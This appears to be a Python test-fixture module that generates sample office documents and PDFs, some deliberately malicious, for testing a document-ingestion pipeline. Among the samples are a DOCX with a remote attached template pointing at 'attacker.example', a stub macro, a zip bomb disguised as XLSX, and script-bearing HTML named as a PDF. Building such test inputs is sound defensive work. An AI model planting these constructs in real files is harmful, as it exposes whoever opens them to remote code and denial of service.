"""Documents made by the tests: PDFs with a Thai text layer, OOXML/ODF ZIPs, and the bad ones (encrypted, macros, bombs, disguised HTML)."""

import io
import zipfile

import pypdf


def _cmap(codes):
    entries = [f"<{code:02X}> <{ord(char):04X}>" for char, code in codes.items()]
    blocks = []
    for start in range(0, len(entries), 100):
        chunk = entries[start:start + 100]
        blocks.append(f"{len(chunk)} beginbfchar\n" + "\n".join(chunk) + "\nendbfchar")
    return (
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
        "/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
        "/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
        "1 begincodespacerange <00> <FF> endcodespacerange\n" + "\n".join(blocks) + "\n"
        "endcmap CMapName currentdict /CMap defineresource pop end end"
    ).encode("ascii")


def make_pdf(pages=("แถลงการณ์ร่วมว่าด้วยความร่วมมือ",)):
    """A real PDF whose text layer reads `pages` (one string a page; Thai works through a ToUnicode map)."""
    chars = sorted({char for text in pages for char in text})
    assert len(chars) < 255, "one single-byte font: at most 254 distinct characters"
    codes = {char: index + 1 for index, char in enumerate(chars)}
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 3: b"<< /Length %d >>\nstream\n" % len(_cmap(codes)) + _cmap(codes) + b"\nendstream"}
    objects[4] = (
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FirstChar 1 /LastChar 255 "
        b"/Widths [" + b" ".join([b"500"] * 255) + b"] /ToUnicode 3 0 R >>"
    )
    kids = []
    for index, text in enumerate(pages):
        page_id, content_id = 5 + 2 * index, 6 + 2 * index
        hexcodes = "".join(f"{codes[char]:02X}" for char in text).encode("ascii")
        stream = b"BT /F1 12 Tf 72 720 Td <" + hexcodes + b"> Tj ET"
        objects[content_id] = b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"
        objects[page_id] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents %d 0 R >>" % content_id
        )
        kids.append(b"%d 0 R" % page_id)
    objects[2] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count %d >>" % len(pages)
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    xref = out.tell()
    size = max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        out.write(b"%010d 00000 n \n" % offsets[number])
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref))
    return out.getvalue()


def encrypted_pdf():
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(make_pdf())))
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _zip(members, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
HYPERLINK = (
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
    'Target="https://www.mfa.go.th/" TargetMode="External"/>'
)
REMOTE_TEMPLATE = (
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
)


def make_docx(paragraphs=("ข้อตกลงว่าด้วย", "การค้าเสรี"), pages=2, extra=None, relationships=HYPERLINK):
    body = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in paragraphs)
    members = {
        "[Content_Types].xml": CONTENT_TYPES,
        "word/document.xml": f'<w:document xmlns:w="x"><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": f"<Relationships>{relationships}</Relationships>",
        "docProps/app.xml": f"<Properties><Pages>{pages}</Pages></Properties>",
    }
    members.update(extra or {})
    return _zip(members)


def macro_docx():
    return make_docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})


def external_template_docx():
    return make_docx(relationships=REMOTE_TEMPLATE)


def make_xlsx(strings=("งบประมาณ", "2569")):
    shared = "".join(f"<si><t>{text}</t></si>" for text in strings)
    return _zip({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": "<workbook/>", "xl/sharedStrings.xml": f"<sst>{shared}</sst>"})


def make_pptx(slides=("สไลด์แรก", "สไลด์ที่สอง")):
    members = {"[Content_Types].xml": CONTENT_TYPES, "ppt/presentation.xml": "<p/>", "docProps/app.xml": f"<Properties><Slides>{len(slides)}</Slides></Properties>"}
    for number, text in enumerate(slides, 1):
        members[f"ppt/slides/slide{number}.xml"] = f"<p:sld><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:sld>"
    return _zip(members)


def make_odf(kind="text", text="รายงานประจำปี"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}", compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", f"<office:document-content><text:p>{text}</text:p></office:document-content>", compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("meta.xml", '<office:meta><meta:document-statistic meta:page-count="4"/></office:meta>')
    return out.getvalue()


def zip_bomb_xlsx():
    """Looks like an XLSX; one member expands 50 MB of zeros from ~50 KB."""
    return _zip({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": "<workbook/>", "xl/sharedStrings.xml": b"\0" * (50 * 1024 * 1024)})


def html_named_pdf():
    return b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
